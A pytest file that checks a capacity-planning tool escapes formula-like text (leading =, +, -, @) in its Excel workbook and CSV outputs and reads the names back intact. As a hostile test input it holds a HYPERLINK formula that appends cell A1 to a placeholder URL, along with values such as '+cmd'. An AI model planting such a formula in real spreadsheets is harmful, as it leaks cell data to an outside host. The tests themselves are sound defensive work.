"""Spreadsheet safety (issue class 6): text that starts with =, +, -, @ (a scenario name, ids)
lands in plan.xlsx and the CSVs as text, never as a live formula — and the plan folder still
reads back with the names as written."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from optimizer.base.outputs import spreadsheet_safe, unescape_text
from optimizer.cli.main import main
from optimizer.folder.read import read_plan

TINY = Path(__file__).parent / "data" / "tiny.yaml"
NAME = '=HYPERLINK("http://example.com/x?"&A1,"click")'


@pytest.fixture(scope="module")
def hostile_plan(tmp_path_factory):
    root = tmp_path_factory.mktemp("xlsx")
    text = TINY.read_text().replace("name: tiny", f"name: '{NAME}'")
    # a metro id a spreadsheet would run: '+chicago' in the catalogue and the demand table
    metros = root / "metros.csv"
    metros.write_text("id,name,lat,lon,utc_offset_hours,population\n"
                      "@chicago,Chicago,41.8373,-87.6862,-6,8604203\n-dallas,Dallas,32.7936,-96.7662,-6,5743938\n")
    sites = root / "sites.csv"
    sites.write_text("id,name,metro,lat,lon,region,power_mw,pue,energy_usd_per_mwh,colo_usd_per_kw_month\n"
                     "=chi,Chicago,@chicago,41.8373,-87.6862,us-central,40,1.22,89.5,120\n"
                     "+dallas,Dallas,-dallas,32.7936,-96.7662,us-south,50,1.3,75,110\n")
    supply = root / "supply.csv"
    supply.write_text("site,gpu,reserved_nodes_max,ondemand_nodes_max\n=chi,h100-sxm,50,20\n=chi,l40s,50,20\n"
                      "+dallas,h100-sxm,50,20\n+dallas,l40s,50,20\n")
    text = (text.replace("metros: [chicago, dallas]", "metros: metros.csv")
            .replace("sites: [chicago, dallas]", "sites: sites.csv\nsupply: supply.csv")
            .replace("metro: chicago", "metro: '@chicago'").replace("metro: dallas", "metro: '-dallas'"))
    (root / "s.yaml").write_text(text)
    out = root / "plan"
    assert main(["plan", str(root / "s.yaml"), "--out", str(out), "--quiet"]) == 0
    return out


def test_no_cell_of_the_workbook_is_a_formula(hostile_plan):
    book = openpyxl.load_workbook(hostile_plan / "plan.xlsx")
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert NAME in texts and "@chicago" in texts and {"=chi", "+dallas"} & set(texts)


def test_csv_cells_that_start_like_formulas_are_quoted_as_text(hostile_plan):
    for name in ("routing.csv", "pools.csv", "procurement.csv", "slo.csv"):
        with open(hostile_plan / name, newline="") as f:
            for row in csv.DictReader(f):
                for column in ("metro", "site"):
                    value = row.get(column)
                    if value:
                        assert not value.startswith(("=", "+", "-", "@")), (name, column, value)
    routing = (hostile_plan / "routing.csv").read_text()
    assert "'@chicago" in routing and "'-dallas" in routing and ("'=chi" in routing or "'+dallas" in routing)


def test_the_folder_reads_back_with_the_names_as_written(hostile_plan, capsys):
    plan = read_plan(hostile_plan)
    assert set(plan.tables["routing"]["metro"]) <= {"@chicago", "-dallas"}
    assert set(plan.tables["procurement"]["site"]) & {"=chi", "+dallas"}
    assert main(["verify", str(hostile_plan), "--requests", "200", "--json"]) in (0, 7)


@pytest.mark.parametrize("value", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=x", "ok", "", "'plain"])
def test_escaping_round_trips(value):
    import pandas as pd

    frame = spreadsheet_safe(pd.DataFrame({"id": [value], "n": [-5]}))
    assert frame["n"].iloc[0] == -5  # numbers are never touched
    stored = frame["id"].iloc[0]
    assert not stored.startswith(("=", "+", "-", "@", "\t", "\r")) or stored == ""
    assert unescape_text(stored) == value
